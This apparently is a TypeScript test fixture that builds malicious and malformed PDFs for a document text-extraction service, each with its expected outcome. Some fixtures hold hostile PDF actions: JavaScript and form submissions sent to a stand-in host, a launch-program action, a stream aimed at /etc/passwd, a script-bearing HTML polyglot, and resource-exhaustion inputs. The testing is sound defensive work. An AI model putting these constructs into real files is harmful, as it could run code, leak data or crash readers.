import { column, joinObjects, makePdf, streamOf } from './makePdf.ts'

/** A file and what must become of it: the code it is refused with, or the words it must have. */
export type HostileFile = {
  readonly fileName: string
  readonly bytes: Uint8Array
  readonly verdict: { readonly code: string } | { readonly text: string }
}

const words = 'The council met on Tuesday.'
const text = { text: words }
const plain = makePdf({ pages: [column([words])] })
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'
const shown = `BT /F1 11 Tf 72 700 Td (${words}) Tj ET`

/** A document of one page with these contents; `more` are objects from 7 on. */
function onePage(
  contents: string,
  { catalog = '', page = '', more = [] as readonly string[], kids = '[6 0 R]', count = '1', resources = '' } = {},
): Buffer {
  return joinObjects([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids ${kids} /Count ${count} >>`,
    font,
    contents,
    '<< >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> ${resources} >> ${page} >>`,
    ...more,
  ])
}

/** With the trailer's words changed: `/Root` for instance, or `/Prev` put in. */
function withTrailer(pdf: Buffer, change: (trailer: string) => string): Buffer {
  const source = pdf.toString('latin1')
  const at = source.lastIndexOf('trailer')
  return Buffer.from(source.slice(0, at) + change(source.slice(at)), 'latin1')
}

const script =
  '<< /S /JavaScript /JS (this.submitForm\\("https://canary.example"\\); globalThis.canary = 1; app.alert\\(1\\)) >>'
const xrefAt = plain.toString('latin1').lastIndexOf('xref\n0')

export const hostilePdfs: readonly HostileFile[] = [
  {
    fileName: 'script at opening.pdf',
    bytes: onePage(streamOf(shown), { catalog: `/OpenAction ${script}` }),
    verdict: text,
  },
  {
    fileName: 'script of a page.pdf',
    bytes: onePage(streamOf(shown), { page: `/AA << /O ${script} >>` }),
    verdict: text,
  },
  {
    fileName: 'starts a program.pdf',
    bytes: onePage(streamOf(shown), { catalog: '/OpenAction << /S /Launch /F (/bin/true) >>' }),
    verdict: text,
  },
  {
    fileName: 'sends a form.pdf',
    bytes: onePage(streamOf(shown), {
      catalog: '/OpenAction << /S /SubmitForm /F (https://canary.example) >> /AcroForm << /Fields [] /XFA (<x/>) >>',
    }),
    verdict: text,
  },
  {
    fileName: 'stream elsewhere.pdf',
    bytes: onePage('<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream', { more: [] }),
    verdict: { code: 'file-scanned' },
  },
  {
    fileName: 'table of objects names itself.pdf',
    bytes: withTrailer(plain, (trailer) => trailer.replace('/Size', `/Prev ${xrefAt} /Size`)),
    verdict: text,
  },
  {
    fileName: 'pages hold themselves.pdf',
    bytes: onePage(streamOf(shown), { kids: '[2 0 R 6 0 R]', count: '2' }),
    verdict: { code: 'file-damaged' },
  },
  { fileName: 'page is its own parent.pdf', bytes: onePage(streamOf(shown), { page: '/Parent 6 0 R' }), verdict: text },
  {
    fileName: 'says a million pages.pdf',
    bytes: onePage(streamOf(shown), { count: '1000000' }),
    verdict: text,
  },
  {
    fileName: 'no pages.pdf',
    bytes: onePage(streamOf(shown), { kids: '[]', count: '0' }),
    verdict: { code: 'file-damaged' },
  },
  {
    fileName: 'huge page.pdf',
    bytes: makePdf({ pages: [column([words])], mediaBox: '[0 0 1000000 1000000]' }),
    verdict: text,
  },
  {
    fileName: 'page without size.pdf',
    bytes: makePdf({ pages: [column([words])], mediaBox: '[0 0 0 0]' }),
    verdict: text,
  },
  {
    fileName: 'page of nonsense size.pdf',
    bytes: makePdf({ pages: [column([words])], mediaBox: '[1e400 (a) null -1]' }),
    verdict: text,
  },
  {
    fileName: 'picture only.pdf',
    bytes: onePage(streamOf('q 612 0 0 792 0 0 cm /I Do Q'), {
      resources: '/XObject << /I 7 0 R >>',
      more: [
        '<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 1 >>\nstream\n0\nendstream',
      ],
    }),
    verdict: { code: 'file-scanned' },
  },
  {
    fileName: 'form draws itself.pdf',
    bytes: onePage(streamOf(`${shown} /X Do`), {
      resources: '/XObject << /X 7 0 R >>',
      more: [
        `<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream`,
      ],
    }),
    verdict: text,
  },
  {
    fileName: 'locked.pdf',
    bytes: withTrailer(plain, (trailer) =>
      trailer.replace(
        '/Size',
        `/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >> /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Size`,
      ),
    ),
    verdict: { code: 'file-encrypted' },
  },
  { fileName: 'only the mark.pdf', bytes: Buffer.from('%PDF-1.7\n'), verdict: { code: 'file-damaged' } },
  {
    fileName: 'noise.pdf',
    bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(50_000)]),
    verdict: { code: 'file-damaged' },
  },
  { fileName: 'cut off before its pages.pdf', bytes: plain.subarray(0, 60), verdict: { code: 'file-damaged' } },
  { fileName: 'without its table.pdf', bytes: plain.subarray(0, xrefAt), verdict: { code: 'file-damaged' } },
  {
    fileName: 'table is elsewhere.pdf',
    bytes: withTrailer(plain, (trailer) => trailer.replace(/startxref\n\d+/, 'startxref\n99999')),
    verdict: text,
  },
  {
    fileName: 'too many pages.pdf',
    bytes: makePdf({ pages: Array.from({ length: 3001 }, () => column([words])) }),
    verdict: { code: 'file-too-large-inside' },
  },
  {
    fileName: 'also a web page.html',
    bytes: Buffer.concat([Buffer.from('<script>canary = 1</script>\n'), plain]),
    verdict: text,
  },
  {
    fileName: 'packed spaces.pdf',
    bytes: onePage(streamOf(`${' '.repeat(100_000_000)}${shown}`, true)),
    verdict: text,
  },
  {
    fileName: 'a hundred thousand lines.pdf',
    bytes: makePdf({
      pages: Array.from({ length: 1000 }, () =>
        column(
          Array.from({ length: 100 }, () => 'and then the council'),
          { top: 690, leading: 6 },
        ),
      ),
      compress: true,
    }),
    verdict: { text: 'and then the council and then the council' },
  },
  {
    fileName: 'one letter at a time.pdf',
    bytes: makePdf({
      pages: [
        Array.from({ length: 50_000 }, (_, index) => ({
          x: 20 + (index % 200) * 1.668,
          y: 780 - Math.floor(index / 200) * 3,
          size: 3,
          text: 'a',
        })),
      ],
      compress: true,
    }),
    verdict: { text: 'aaa' },
  },
]

/** The same bytes every time. */
function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length)
  let state = 12_345
  for (let at = 0; at < length; at += 1) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648
    bytes[at] = state >> 16
  }
  return bytes
}
